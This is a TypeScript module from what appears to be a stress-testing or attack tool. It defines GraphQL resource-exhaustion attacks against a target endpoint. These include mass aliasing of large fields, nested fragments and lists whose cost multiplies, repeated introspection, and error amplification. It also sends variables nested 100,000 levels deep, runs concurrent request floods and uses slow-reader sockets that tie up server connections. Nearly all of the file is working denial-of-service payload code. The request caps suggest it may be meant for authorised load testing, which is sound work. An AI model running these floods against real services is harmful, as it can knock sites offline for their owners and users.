/** Small queries that request a lot of data, or that are slow to parse, validate or execute. */
import { type Attack, type AttackContext, flood } from '../attack.ts';
import { openSocket } from '../connection.ts';
import { createFormRequest, createJsonRequest, createRequest, type RawRequest } from '../request.ts';
import { ResponseParser } from '../response-parser.ts';

type CreateQuery = (context: AttackContext) => unknown;

/** Concurrent clients that repeat the query. */
const CONNECTIONS = 8;
const BURST_CONNECTIONS = 50;

const repeat = (count: number, create: (index: number) => string, separator = ' ') =>
  Array.from({ length: count }, (_, index) => create(index)).join(separator);
const aliases = (count: number, field: string) => repeat(count, (index) => `a${index}:${field}`);
const nest = (levels: number, open: string, inner: string, close: string) => open.repeat(levels) + inner + close.repeat(levels);
const query = (text: string, variables?: object) => ({ query: text, ...(variables && { variables }) });

/** Numbers of aliases around the limits of the service: a few bytes, some kilobytes, and as many as its tokens allow. */
const sizes = [20, 240, 1200, 4900];

/** Fields whose values are as long as a page. */
const largeFields = [
  'blocksJSON',
  'content',
  'content(format: RENDERED)',
  'blocks(flat: true) { attributesJSON saveContent originalContent }',
];

/** A query with many aliases of a large field. The alias count and the field change with each request. */
function createLargeSelection(context: AttackContext, format: (selection: string) => string): unknown {
  return query(format(aliases(context.random.pick(sizes), context.random.pick(largeFields))));
}

const queries: readonly { name: string; description: string; create: CreateQuery }[] = [
  {
    name: 'aliases',
    description: 'Many aliases of fields with large values.',
    create: (context) => createLargeSelection(context, (selection) => `{ posts(first: 100) { nodes { ${selection} } } }`),
  },
  {
    name: 'fragments',
    description: 'The same, through fragments that contain each other and through inline fragments.',
    create: (context) =>
      context.random.chance(0.5)
        ? createLargeSelection(
            context,
            (selection) =>
              `{ posts(first: 100) { nodes { ...A } } } ${repeat(5, (index) => `fragment ${'ABCDE'[index]} on Post { x${index}: title ${index < 4 ? `...${'BCDE'[index]}` : selection} }`)}`,
          )
        : createLargeSelection(
            context,
            (selection) => `{ contentNodes(first: 100) { nodes { ${nest(8, '... on Post { ', selection, ' }')} } } }`,
          ),
  },
  {
    name: 'batch',
    description: 'The same, ten times in one batch.',
    create: ({ random }) =>
      Array.from({ length: 10 }, () =>
        query(`{ pages(first: 100) { nodes { ${aliases(random.pick([20, 240]), random.pick(largeFields))} } } }`),
      ),
  },
  {
    name: 'root-aliases',
    description: 'Many lists at the root of one query.',
    create: ({ random }) =>
      query(
        `{ ${aliases(random.pick([10, 50]), `contentNodes(first: 100) { nodes { ... on Page { blocksJSON } ... on Post { blocksJSON content } } }`)} }`,
      ),
  },
  {
    name: 'nested-lists',
    description: 'Lists within lists, whose sizes multiply.',
    create: ({ random }) => {
      const size = random.pick([3, 10, 100]);
      return query(
        `{ posts(first: ${size}) { nodes { author { node { posts(first: ${size}) { nodes { categories(first: ${size}) { nodes { posts(first: ${size}) { nodes { id content } } } } } } } } } } }`,
      );
    },
  },
  {
    name: 'introspection',
    description: 'Introspection, nested and repeated.',
    create: ({ random }) => {
      const type = nest(
        random.pick([3, 10]),
        'fields(includeDeprecated: true) { name args { name type { name } } type { name ',
        'kind',
        ' } }',
      );
      return query(`{ ${aliases(random.pick([1, 20, 50]), `__schema { types { name ${type} } }`)} }`);
    },
  },
  {
    name: 'overlapping-fields',
    description: 'Selections whose fields validation compares in pairs.',
    create: ({ random }) => {
      const count = random.pick([50, 200, 800]);
      return query(
        random.chance(0.5)
          ? `{ ${repeat(count, (index) => `posts(first: 1) { nodes { author { node { a${index}: id b${index}: name } } } }`)} }`
          : `{ ...F0 } ${repeat(count, (index) => `fragment F${index} on RootQuery { posts { nodes { id ...on Post { x${index}: id } } } ${index < count - 1 ? `...F${index + 1}` : ''} }`)}`,
      );
    },
  },
  {
    name: 'errors',
    description: 'Queries that result in as many and as long errors as possible.',
    create: ({ random }) =>
      random.pick([
        query(`{ ${repeat(4000, (index) => `unknown${index}`)} }`),
        query(`query ($x: ID!) { ${aliases(50, 'node(id: $x) { id }')} }`, { x: 'é'.repeat(100_000) }),
        query(`query ($x: [ID]) { posts(where: { in: $x }) { nodes { id } } }`, {
          x: Array.from({ length: 20_000 }, (_, index) => ({ index })),
        }),
        query(`query (${repeat(3000, (index) => `$v${index}: Nothing${index}!`)}) { posts { nodes { id } } }`),
      ]),
  },
  {
    name: 'variables',
    description: 'Very large and very deep variables.',
    create: ({ random }) =>
      random.pick([
        query('query ($x: String) { posts(where: { search: $x }) { nodes { id } } }', { x: 'a '.repeat(400_000) }),
        query('query ($x: [ID]) { posts(where: { in: $x }) { nodes { id } } }', {
          x: Array.from({ length: 150_000 }, (_, index) => index),
        }),
        `{"query":"query($x: RootQueryToPostConnectionWhereArgs) { posts(where: $x) { nodes { id } } }","variables":{"x":${nest(100_000, '[', '', ']')}}}`,
        `{"query":"{ __typename }","variables":${nest(80_000, '{"a":', '1', '}')}}`,
      ]),
  },
  {
    name: 'input-depth',
    description: 'Values in the query text that are nested deeply.',
    create: ({ random }) => {
      const levels = random.pick([60, 1000, 10_000]);
      return query(`{ posts(where: { taxQuery: ${nest(levels, '{ taxArray: [', '{ terms: ["a"] }', '] }')} }) { nodes { id } } }`);
    },
  },
  {
    name: 'saved-queries',
    description: 'Large documents with new ids, which the service saves within limits.',
    create: ({ random }) => ({
      query: `{ ${repeat(20, (index) => `${random.word(4)}${index}: posts(where: { search: "${random.word(8).repeat(500)}" }) { nodes { id } }`)} }`,
      queryId: random.word(20),
    }),
  },
  {
    name: 'search',
    description: 'Searches that use no index and are not cached.',
    create: ({ random }) =>
      query(
        `{ ${aliases(random.pick([1, 20]), `posts(first: 100, where: { search: "%${random.word(1)}_${random.word(2)}%" }) { nodes { title excerpt } }`)} }`,
      ),
  },
];

const toRequest = (path: string, body: unknown): RawRequest =>
  typeof body === 'string' ? createRequest('POST', path, { 'content-type': 'application/json' }, body) : createJsonRequest(path, body);

/** The formats in which a query can be sent. A query that is too long for a URL is sent with POST. */
function createInAnyFormat({ target, random }: AttackContext, body: unknown): RawRequest {
  const path = target.graphqlPath;
  const { query: text } = body as { query?: string };
  if (text === undefined) return toRequest(path, body);
  return random.pick([
    () => toRequest(path, body),
    () => createRequest('GET', `${path}?query=${encodeURIComponent(text.slice(0, 8000))}`),
    () => createFormRequest(path, { query: text }),
    () => createRequest('POST', path, { 'content-type': 'application/graphql' }, text),
  ])();
}

const repeatedQueries = queries.map(({ name, description, create }): Attack => ({
  name: `graphql-${name}`,
  description,
  maxRequests: 400,
  run: async (context) =>
    await flood(context, {
      url: context.target.content,
      connections: CONNECTIONS,
      createRequest: () => toRequest(context.target.graphqlPath, create(context)),
    }),
}));

const burst: Attack = {
  name: 'graphql-burst',
  description: 'All of these queries in all formats, 50 at the same time.',
  maxRequests: 1000,
  run: async (context) =>
    await flood(context, {
      url: context.target.content,
      connections: BURST_CONNECTIONS,
      createRequest: () => createInAnyFormat(context, context.random.pick(queries).create(context)),
    }),
};

/** Bytes that a slow reader accepts per second. */
const SLOW_BYTES = 2000;

const slowReaders: Attack = {
  name: 'graphql-slow-readers',
  description: '50 clients request large responses and read 2 kB per second.',
  maxRequests: 50,
  run: async (context) => {
    const { target, tally, maxRequests, endsAt } = context;
    const body = query('{ pages(first: 100) { nodes { blocksJSON } } }');
    await Promise.all(
      Array.from({ length: maxRequests }, async () => {
        const socket = openSocket(target.content);
        const parser = new ResponseParser(() => false, 0);
        let status = 'unfinished';
        socket.on('data', (chunk: Buffer) => {
          const [response] = parser.push(chunk);
          if (response) status = String(response.status);
          socket.pause();
          setTimeout(() => socket.resume(), (chunk.length / SLOW_BYTES) * 1000).unref();
        });
        const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
        socket.write(toRequest(target.graphqlPath, body).bytes);
        const timer = setTimeout(() => socket.destroy(), endsAt - performance.now());
        await closed;
        clearTimeout(timer);
        tally.count(status);
      }),
    );
  },
};

export const graphqlAttacks: readonly Attack[] = [...repeatedQueries, burst, slowReaders];
